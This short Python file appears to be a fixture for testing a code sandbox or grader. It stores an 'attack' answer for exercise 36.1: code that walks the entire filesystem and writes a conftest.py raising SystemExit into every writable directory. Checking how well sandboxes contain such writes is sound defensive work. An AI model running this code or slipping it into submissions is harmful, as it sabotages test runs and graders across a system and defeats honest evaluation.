"""Files are written wherever it is possible."""

exercise = "36.1"
kind = "attack"
rest = "stub"
answers = {
    "36.1": """
import os
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if f not in ("proc", "sys")]
    try:
        open(os.path.join(folder, "conftest.py"), "w").write("raise SystemExit")
    except OSError:
        pass
""",
}
